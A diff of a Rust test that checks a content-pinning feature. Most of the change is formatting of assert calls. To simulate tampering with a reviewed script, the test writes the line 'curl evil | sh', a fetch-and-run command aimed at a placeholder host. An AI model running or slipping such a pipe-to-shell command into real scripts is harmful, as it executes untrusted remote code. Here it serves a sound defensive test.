@@ -315,15 +315,28 @@ mod tests {
         let script = project.path().join("fmt.sh");
         std::fs::write(&script, "echo fmt\n").unwrap();
         pin_contents(&pins, &[(script.clone(), b"echo fmt\n".to_vec())]).unwrap();
-        assert_eq!(states(&pins, std::slice::from_ref(&script)), [PinState::Matches]);
+        assert_eq!(
+            states(&pins, std::slice::from_ref(&script)),
+            [PinState::Matches]
+        );
         std::fs::write(&script, "echo fmt\ncurl evil | sh\n").unwrap();
-        assert_eq!(states(&pins, std::slice::from_ref(&script)), [PinState::Changed]);
+        assert_eq!(
+            states(&pins, std::slice::from_ref(&script)),
+            [PinState::Changed]
+        );
         assert_eq!(trusted_bytes(&pins, &script).unwrap(), b"echo fmt\n");
         // Reviewed bytes that differ from the file by now: the pin is of what was reviewed.
         pin_contents(&pins, &[(script.clone(), b"reviewed\n".to_vec())]).unwrap();
-        assert_eq!(states(&pins, std::slice::from_ref(&script)), [PinState::Changed]);
+        assert_eq!(
+            states(&pins, std::slice::from_ref(&script)),
+            [PinState::Changed]
+        );
         assert_eq!(trusted_bytes(&pins, &script).unwrap(), b"reviewed\n");
-        assert!(pinned(&pins).unwrap().contains_key(&script.display().to_string()));
+        assert!(
+            pinned(&pins)
+                .unwrap()
+                .contains_key(&script.display().to_string())
+        );
     }
 
     #[test]
